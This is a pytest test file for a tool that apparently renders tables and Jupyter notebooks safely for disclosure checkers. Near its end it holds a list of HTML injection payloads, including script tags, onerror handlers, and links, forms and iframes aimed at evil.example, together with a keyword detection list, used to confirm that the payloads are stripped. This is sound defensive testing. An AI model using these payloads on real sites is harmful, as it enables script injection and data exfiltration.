"""Files made fit for a checker's eyes: what they really are, and nothing that runs."""

import json

import nbformat
import pytest

from tre.desk.shown.grid import finding_views, grid_of, shortened
from tre.desk.shown.grouped import grouped
from tre.desk.shown.notebook import UnreadableNotebookError, inert, notebook_page
from tre.desk.shown.sniff import Look, is_what_its_name_says, look_of

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 8
JPEG = b"\xff\xd8\xff\xe0" + b"\0" * 8
NOTEBOOK = nbformat.writes(nbformat.v4.new_notebook()).encode()

DECLARED = {"rows": ["group"], "columns": ["sex"], "dataset": "linked"}
TABLE = """group,sex,value
Psychosis,Female,7
Psychosis,Male,23
Psychosis,Total,30
Mood,Female,612
Mood,Male,
Mood,Total,1014
Total,Female,619
Total,Male,425
Total,Total,1044
"""
CHECK = {
    "verdict": "fail",
    "findings": [
        {
            "rule": "threshold",
            "severity": "fail",
            "cells": [{"group": "Psychosis", "sex": "Female"}],
            "message": "7 people",
            "remedy": "suppress",
        },
        {"rule": "zeros", "severity": "review", "cells": [{"group": "Psychosis"}], "message": ""},
        {"rule": "note", "severity": "review", "cells": [], "message": "the whole table"},
    ],
    "evidence": [{"group": "Mood", "sex": "Male", "units": 402, "records": 1206, "exact": 402}],
    "proof": [{"group": "Mood", "sex": "Male", "lower": 380, "upper": 420, "exact": True}],
}


@pytest.mark.parametrize(
    ("name", "content", "look", "is_honest"),
    [
        ("a.csv", b"a,b\n1,2\n", Look.TABLE, True),
        ("a.png", PNG, Look.PNG, True),
        ("a.jpg", JPEG, Look.JPEG, True),
        ("a.svg", b"<svg xmlns='x'/>", Look.SVG, True),
        ("a.ipynb", NOTEBOOK, Look.NOTEBOOK, True),
        ("a.py", b"print(1)", Look.CODE, True),
        ("a.md", b"# a", Look.TEXT, True),
        # not what their names say
        ("a.csv", PNG, Look.PNG, False),
        ("a.png", b"<script>", Look.TEXT, False),
        ("a.png", JPEG, Look.JPEG, False),
        ("a.txt", PNG, Look.PNG, False),
        ("a.ipynb", b"{}", Look.TEXT, False),
        ("a.svg", b"no drawing", Look.TEXT, False),
        ("a.csv", b"a,\x00\n", Look.UNREADABLE, False),
        ("a.csv", b"\xff\xfe\x00", Look.UNREADABLE, False),
        # nothing that a person reads
        ("model.pkl", b"\x80\x04\x95", Look.UNREADABLE, True),
    ],
)
def test_a_file_is_what_its_bytes_say(name: str, content: bytes, look: Look, is_honest: bool):
    assert look_of(name, content) is look
    assert is_what_its_name_says(name, look) is is_honest


def test_a_declared_table_is_turned_with_its_margins_last():
    #              sex
    # group        Female   Male   Total
    # Psychosis       7      23      30
    # Mood          612       -    1014
    # Total         619     425    1044
    grid = grid_of(TABLE, CHECK, DECLARED)
    assert grid.across == "sex"
    assert grid.heads == ("Female", "Male", "Total")
    assert [row.headings for row in grid.rows] == [("Psychosis",), ("Mood",), ("Total",)]
    assert [cell.text for cell in grid.rows[0].cells if cell] == ["7", "23", "30"]
    assert [row.is_margin for row in grid.rows] == [False, False, True]


def test_a_finding_lies_on_its_cells_and_on_no_other():
    grid = grid_of(TABLE, CHECK, DECLARED)
    by_text = {cell.text: cell for cell in grid.cells}
    # finding 1 names one cell; finding 2 names the whole row of psychosis; finding 3 names none
    assert by_text["7"].numbers == (1, 2)
    assert by_text["7"].verdict == "fail"
    assert by_text["23"].numbers == (2,)
    assert by_text["23"].verdict == "review"
    assert by_text["612"].numbers == ()
    assert by_text["612"].verdict is None


def test_a_withheld_cell_shows_what_can_be_worked_out_about_it():
    grid = grid_of(TABLE, CHECK, DECLARED)
    withheld = next(cell for cell in grid.cells if cell.withheld)
    assert {line.label: line.text for line in withheld.facts} == {
        "People": "402",
        "Records": "1,206",
        "Exact value": "402",
        "Can be worked out: at least": "380",
        "Can be worked out: at most": "420",
        "The search for that came to its end": "yes",
    }


def test_findings_are_numbered_as_on_the_cells():
    first, second, third = finding_views(CHECK, grid_of(TABLE, CHECK, DECLARED))
    assert (first.number, first.places) == (1, ("c0-0",))
    assert second.places == ("c0-0", "c0-1", "c0-2")
    assert third.places == ()


def test_numbers_and_booleans_of_evidence_meet_the_words_of_the_file():
    declared = {"rows": "year", "columns": "late"}
    check = {
        "findings": [{"severity": "fail", "cells": [{"year": 2010, "late": True}]}],
        "evidence": [{"year": 2010, "late": True, "units": 3}],
    }
    grid = grid_of("year,late,value\n2010,true,3\n2010,false,90\n", check, declared)
    assert grid.cells[0].verdict == "fail"
    assert grid.cells[0].facts[0].text == "3"
    assert grid.cells[1].verdict is None


def test_evidence_lies_on_a_label_that_is_written_with_an_apostrophe():
    check = {"evidence": [{"change": "-5 to 0", "units": 30}]}
    grid = grid_of("change,value\n'-5 to 0,30\n", check, {"rows": "change"})
    assert grid.rows[0].headings == ("-5 to 0",)
    assert grid.cells[0].facts[0].text == "30"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "group,sex,value\n",
        "group,value\nPsychosis,7\n",  # a dimension is missing
        "group,sex,value\na,b,1\na,b,2\n",  # a cell twice
        "group,sex,value\na,b\n",  # a line too short
        "group,sex,value,more\na,b,1,2\n",
        'group,sex,value\n"a',
    ],
)
def test_a_table_that_does_not_fit_its_declaration_is_shown_as_it_stands(text: str):
    grid = grid_of(text, CHECK, DECLARED)
    assert grid.across == ""


def test_what_is_too_long_to_read_is_cut_off_and_said():
    grid = grid_of("a\n" + "1\n" * 2_345, None, None)
    assert len(grid.rows) == 2_000
    assert grid.rows_cut_off == 345


@pytest.mark.parametrize(
    ("text", "short"),
    [
        ("41.714285714285715", "41.714…"),
        ("-0.33333333", "-0.333…"),
        ("13.5", "13.5"),
        ("1.2345", "1.2345"),
        ("120", "120"),
        ("v1.234567", "v1.234567"),
        ("1.23456e10", "1.23456e10"),
    ],
)
def test_a_long_number_is_shortened_so_that_it_shows(text: str, short: str):
    assert shortened(text) == short


def test_a_shortened_number_is_whole_behind_its_cell():
    grid = grid_of("mean\n41.714285714285715\n", None, None)
    (cell,) = grid.cells
    assert cell.short == "41.714…"
    assert cell.facts[0].text == "41.714285714285715"


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/?d=1">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<a href="javascript:alert(1)">x</a>',
    '<button data-commandlinker-command="terminal:create-new">go</button>',
    '<div data-commandlinker-command="x" data-commandlinker-args="{}">go</div>',
    '<form action="https://evil.example"><input></form>',
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{background:url(https://evil.example)}</style>",
    '<div style="background:url(https://evil.example)">x</div>',
    "<svg><script>alert(1)</script></svg>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example">',
    '<video src="https://evil.example"></video>',
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<object data="x"></object><embed src="x">',
]
WORDS = (
    "<script",
    "onerror",
    "evil.example",
    "javascript:",
    "commandlinker",
    "svg+xml",
    "<form",
    "<iframe",
    "<object",
    "<embed",
    "style=",
    "href=",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_notebook_can_act(attack: str):
    cell = nbformat.v4.new_code_cell(
        "1", outputs=[nbformat.v4.new_output("display_data", {"text/html": f"<p>seen</p>{attack}"})]
    )
    words = nbformat.v4.new_markdown_cell(f"# Title\n\n{attack}")
    content = nbformat.writes(nbformat.v4.new_notebook(cells=[cell, words])).encode()
    body = notebook_page(content, title="n", stylesheet="x").split("<body", 1)[1]
    assert "seen" in body
    assert not [word for word in WORDS if word in body.lower()]


def test_a_figure_of_a_notebook_stays():
    picture = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a">'
    assert "data:image/png;base64,iVBORw0KGgo=" in inert(picture)


@pytest.mark.parametrize("content", [b"", b"{}", b"[]", b"\xff", b'{"cells": [1]}', b"null"])
def test_a_broken_notebook_is_told_and_not_guessed(content: bytes):
    with pytest.raises(UnreadableNotebookError):
        notebook_page(content, title="n", stylesheet="x")


def test_a_script_in_the_code_is_shown_as_text():
    cell = nbformat.v4.new_code_cell("'<script>alert(1)</script>'")
    content = nbformat.writes(nbformat.v4.new_notebook(cells=[cell])).encode()
    assert json.loads(content)
    page = notebook_page(content, title="<b>", stylesheet="x")
    assert "<script" not in page
    assert "&lt;script&gt;" in page
    assert "<title>&lt;b&gt;" in page


def test_an_empty_cell_is_withheld_unless_the_check_says_that_it_has_no_value():
    check = {
        "evidence": [
            {"group": "Mood", "sex": "Male", "units": 3, "withheld": False, "exact": None},
            {"group": "Mood", "sex": "Female", "units": 9, "withheld": True, "exact": None},
        ]
    }
    text = "group,sex,value\nMood,Male,\nMood,Female,\nOther,Male,\n"
    grid = grid_of(text, check, DECLARED)
    shown = [(cell.withheld, cell.short) for cell in grid.cells]
    assert sorted(shown) == [(False, "\u2013"), (True, ""), (True, "")]


def test_many_small_cells_are_one_finding_whose_number_is_on_each_of_them():
    def small(group: str, rule: str = "threshold", severity: str = "fail") -> dict[str, object]:
        cell = {"group": group, "sex": "Male"}
        return {"rule": rule, "severity": severity, "cells": [cell], "message": group}

    others = [small("D", severity="review"), small("A", rule="class_disclosure")]
    check = {"findings": [small("A"), others[0], small("B"), others[1], small("C")]}
    told = grouped(check)
    assert told is not None
    assert len(check["findings"]) == 5
    text = "group,sex,value\nA,Male,3\nB,Male,4\nC,Male,5\nD,Male,50\n"
    grid = grid_of(text, told, DECLARED)
    assert [cell.numbers for cell in grid.cells] == [(1, 3), (1,), (1,), (2,)]
    views = finding_views(told, grid)
    assert [view.message for view in views] == ["3 cells. Of the first: A", "D", "A"]
    assert len(views[0].places) == 3
    assert grouped(None) is None
    assert grouped({"findings": others}) == {"findings": others}


def test_several_statistics_stand_side_by_side_with_their_own_evidence():
    text = "group,count,mean\na,12,3.5\nTotal,12,3.5\n"
    declared = {"rows": ["group"], "columns": [], "statistic": ["count", "mean"]}
    check = {
        "findings": [
            {"severity": "fail", "statistic": "mean", "cells": [{"group": "a"}]},
            {"severity": "review", "cells": [{"group": "Total"}]},
        ],
        "evidence": [{"statistic": "mean", "group": "a", "largest": 9.0}],
    }
    grid = grid_of(text, check, declared)
    assert grid.heads == ("count", "mean")
    assert [[cell.verdict for cell in row.cells if cell] for row in grid.rows] == [
        [None, "fail"],
        ["review", "review"],
    ]
    facts = [[line.label for line in cell.facts] for cell in grid.rows[0].cells if cell]
    assert facts == [[], ["Largest contribution"]]
